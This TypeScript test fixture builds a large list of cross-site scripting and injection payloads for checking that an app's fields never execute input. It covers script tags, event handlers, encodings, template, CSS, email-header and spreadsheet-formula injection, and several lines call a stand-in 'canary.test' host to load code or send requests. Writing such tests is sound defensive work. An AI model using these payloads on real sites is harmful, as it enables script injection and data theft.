// Texts that have run as scripts somewhere, generated from families. Each calls `ran()`, opens a dialog, or requests
// the canary's address, which our code never does; each fits into the shortest fields, names and titles.

/** Length of the longest in characters: the maximum of a name and a title. */
export const LONGEST_HOSTILE_TEXT = 80

// Only an executed text requests it; nothing answers.
const CANARY = 'canary.test'

const RUN = 'ran()'
const CORES = [`<svg onload=${RUN}>`, `<img src=x onerror=${RUN}>`, `<script>${RUN}</script>`]

const scripts = [
  `<script>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script >${RUN}</script >`,
  `<script/x>${RUN}</script>`,
  `<script>${RUN}`,
  `<<script>${RUN}//<</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script>alert(1)</script>`,
  `<script>top.${RUN}</script>`,
  `<script type=module>${RUN}</script>`,
  `<script src=//${CANARY}/a.js></script>`,
  `<script src=https://${CANARY}/b.js></script>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<script>import('//${CANARY}/c.js')</script>`,
  `<script>setTimeout('${RUN}')</script>`,
  `<script>eval('ra'+'n()')</script>`,
  `<script>Function('${RUN}')()</script>`,
  `<script>fetch('//${CANARY}/d')</script>`,
  `<script>navigator.sendBeacon('//${CANARY}/e')</script>`,
  `<script>location='//${CANARY}/f'</script>`,
  `<script>new Image().src='//${CANARY}/g'</script>`,
  `<script>console.error('ran')</script>`,
  `<script>document.write('${CORES[0]}')</script>`,
]

// Elements that run by themselves, or as soon as they are touched.
const ELEMENTS = [
  `img src=x onerror=${RUN}`,
  `svg onload=${RUN}`,
  `body onload=${RUN}`,
  `video src=x onerror=${RUN}`,
  `audio src=x onerror=${RUN}`,
  `input autofocus onfocus=${RUN}`,
  `select autofocus onfocus=${RUN}`,
  `textarea autofocus onfocus=${RUN}`,
  `details open ontoggle=${RUN}`,
  `marquee onstart=${RUN}`,
  `iframe onload=${RUN}`,
  `object data=x onerror=${RUN}`,
  `style onload=${RUN}`,
  `link rel=stylesheet href=x onerror=${RUN}`,
  `a autofocus tabindex=1 onfocus=${RUN}`,
  `button popovertarget=p onclick=${RUN}`,
  `form onformdata=${RUN}`,
  `div onmouseover=${RUN}`,
  `div contenteditable autofocus onfocus=${RUN}`,
  `xss onpointerenter=${RUN} style=position:fixed;inset:0`,
]
const events = ELEMENTS.flatMap(element => {
  const name = element.split(' ')[0]!
  return [
    `<${element}>`,
    `<${element.toUpperCase().replaceAll('RAN()', RUN)}>`,
    `<${element.replaceAll(' ', '/')}>`,
    `<${element} x="`,
    `<${name} x='>' ${element.slice(name.length + 1)}>`,
  ]
})

const ENDS = ['">', "'>", '`>', '</title>', '</textarea>', '</style>', '</script>', '</noscript>', '</template>']
const MORE_ENDS = ['-->', ']]>', '</select>', '</xmp>', '</iframe>', '\\">', '--!>']
const breakouts = [...ENDS, ...MORE_ENDS].flatMap(end => CORES.map(core => end + core))

const attributes = ['"', "'", '`'].flatMap(quote => [
  `${quote} onfocus=${RUN} autofocus x=${quote}`,
  `${quote} onmouseover=${quote}${RUN}${quote} style=position:fixed;inset:0`,
  `${quote}onerror=${quote}${RUN}`,
  `${quote};${RUN};//`,
  `${quote}-${RUN}-${quote}`,
  `\\${quote};${RUN};//`,
])

const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `javascript://%0a${RUN}`,
  `data:text/html,${CORES[2]}`,
  `data:image/svg+xml,${CORES[0]}`,
  `vbscript:${RUN}`,
  `//${CANARY}/h`,
]
const addresses = ADDRESSES.flatMap(address => [
  address,
  `<a href="${address}">x</a>`,
  `<iframe src="${address}">`,
  `<object data="${address}">`,
  `<form action="${address}"><button>x`,
])

const svg = [
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href=//${CANARY}/i.js></script></svg>`,
  `<svg><a href=javascript:${RUN}><text y=9>x</text></a>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set onbegin=${RUN} attributeName=x>`,
  `<svg><use href="//${CANARY}/j.svg#a"/></svg>`,
  `<svg><image href=x onerror=${RUN} /></svg>`,
  `<svg><foreignObject><iframe onload=${RUN}>`,
  `<svg><style>@import'//${CANARY}/k.css'</style></svg>`,
  `<svg><style><!--</style>${CORES[1]}`,
  `<svg><desc>${CORES[1]}</desc></svg>`,
  `<math><mtext>${CORES[1]}</mtext></math>`,
  `<math href=javascript:${RUN}>x</math>`,
  `<?xml version="1.0"?>${CORES[0]}`,
  `<![CDATA[${CORES[2]}]]>`,
  `<!DOCTYPE x [<!ENTITY a SYSTEM "//${CANARY}/l">]>`,
]

const entities = [
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
  `&#60;svg onload=${RUN}&#62;`,
  `&#x3c;svg onload=${RUN}&#x3e;`,
  `&#0000060svg onload=${RUN}&#0000062`,
  `&LT;svg onload=${RUN}&GT;`,
  `&quot;><svg onload=${RUN}>`,
  `&apos;-${RUN}-&apos;`,
  `%3Csvg%20onload%3D${RUN}%3E`,
  `%253Csvg onload=${RUN}%253E`,
  `\\u003csvg onload=${RUN}\\u003e`,
  `\\x3csvg onload=${RUN}\\x3e`,
  `<img src=x onerror=&#114;an()>`,
  `<a href="&#106;avascript:${RUN}">x</a>`,
  `<a href="javascript&colon;${RUN}">x</a>`,
  `+ADw-svg onload=${RUN}+AD4-`,
]

const templates = [
  `{{constructor.constructor('${RUN}')()}}`,
  `{{$on.constructor('${RUN}')()}}`,
  `{{= ${RUN} }}`,
  `{{{ ${RUN} }}}`,
  `\${${RUN}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `{% ${RUN} %}`,
  `[[${RUN}]]`,
  `<div x-data x-init=${RUN}>`,
  `<div ng-app ng-init=${RUN}>`,
  `<div v-html="'${CORES[0]}'">`,
  `{{- name, ${RUN} }}`,
  `$t(errors:unexpected, {"x":"${CORES[0]}"})`,
  `{"dangerouslySetInnerHTML":{"__html":"${CORES[0]}"}}`,
  `__proto__[innerHTML]=${CORES[0]}`,
]

const markdown = [
  `[x](javascript:${RUN})`,
  `[x](javascript:${RUN} "x")`,
  `![x](x"onerror="${RUN})`,
  `![x](//${CANARY}/m.png)`,
  `<javascript:${RUN}>`,
  `[x]: javascript:${RUN}`,
  `[x](data:text/html,${CORES[2]})`,
  `\`\`\`${CORES[1]}\`\`\``,
]

const styles = [
  `<style>@import'//${CANARY}/n.css'</style>`,
  `<style>*{background:url(//${CANARY}/o)}</style>`,
  `<link rel=stylesheet href=//${CANARY}/p.css>`,
  `<p style="background:url(//${CANARY}/q)">x</p>`,
  `red;background:url(//${CANARY}/r)`,
  `"style="position:fixed;inset:0;background:url(//${CANARY}/s)`,
  `<div style="width:expression(${RUN})">`,
  `</style><style>*{background:url(//${CANARY}/t)}`,
]

const documents = [
  `</script><script>${RUN}//`,
  `"}</script>${CORES[0]}`,
  `</ScRiPt >${CORES[0]}`,
  `<!--<script>${CORES[0]}`,
  `"};${RUN};//`,
  `'});${RUN};//`,
  `\\"};${RUN};//`,
  `]}';${RUN};'`,
  `<base href=//${CANARY}/>`,
  `<meta http-equiv=refresh content="0;url=//${CANARY}/u">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<embed src=//${CANARY}/v>`,
  `<frameset onload=${RUN}>`,
  `<template><svg onload=${RUN}></template>`,
  `<noscript><p title="</noscript>${CORES[1]}">`,
  `<img src="//${CANARY}/w">`,
  `<plaintext onclick=${RUN}>`,
  `<isindex action=javascript:${RUN} type=image>`,
]

const letters = [
  `x%0d%0aBcc: a@${CANARY}`,
  `x\\r\\nBcc: a@${CANARY}`,
  `=?utf-8?q?=3Csvg_onload=3D${RUN}=3E?=`,
  `"><${RUN}@${CANARY}>`,
  `a@${CANARY}, b@${CANARY}`,
  `x" <a@${CANARY}>`,
  // Spreadsheets request these when a table is opened.
  `=HYPERLINK("//${CANARY}/x","x")`,
  `=IMPORTXML("//${CANARY}/y","/")`,
  `+cmd|' /C calc'!A0`,
  `@SUM(1)*cmd|'/C calc'!A0`,
]

// Characters that some normalization turns into dangerous ones; and invisible ones, which are refused.
const signs = [
  `＜svg onload=${RUN}＞`,
  `﹤svg onload=${RUN}﹥`,
  `<ſcript>${RUN}</ſcript>`,
  `<\u0131mg src=x onerror=${RUN}>`,
  `<svg onload=ran（）>`,
  `＂＞<svg onload=${RUN}>`,
  `ʺ><svg onload=${RUN}>`,
  `\u2039svg onload=${RUN}\u203a`,
  `<svg\u00a0onload=${RUN}>`,
  `<s\u0301vg onload=${RUN}>`,
  `<scr\u200bipt>${RUN}</script>`,
  `\u202e>)(nar=daolno gvs<`,
  `<svg\u2028onload=${RUN}>`,
  `<svg\fonload=${RUN}>`,
  `<a href="java\tscript:${RUN}">x</a>`,
  `<img src=x\nonerror=${RUN}>`,
]

const HOSTILE_FAMILIES: Readonly<Record<string, readonly string[]>> = {
  scripts,
  events,
  breakouts,
  attributes,
  addresses,
  svg,
  entities,
  templates,
  markdown,
  styles,
  documents,
  letters,
  signs,
}

/** All of them, each once, with the families mixed, so that any few of them are diverse. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...new Set(
    Object.values(HOSTILE_FAMILIES)
      .flatMap(family => family.map((text, index) => ({ text, place: index / family.length })))
      .toSorted((a, b) => a.place - b.place)
      .map(({ text }) => text),
  ),
]

/** Combines them into texts of at most `most` characters, one per line or, in a single line, next to each other. */
export function packed(most: number, lines: boolean, texts: readonly string[] = HOSTILE_TEXTS): string[] {
  const packs: string[] = []
  for (const text of texts) {
    const last = packs.at(-1)
    const longer = last === undefined ? text : last + (lines ? '\n' : ' ') + text
    if (last !== undefined && [...longer].length <= most) packs[packs.length - 1] = longer
    else packs.push(text)
  }
  return packs
}
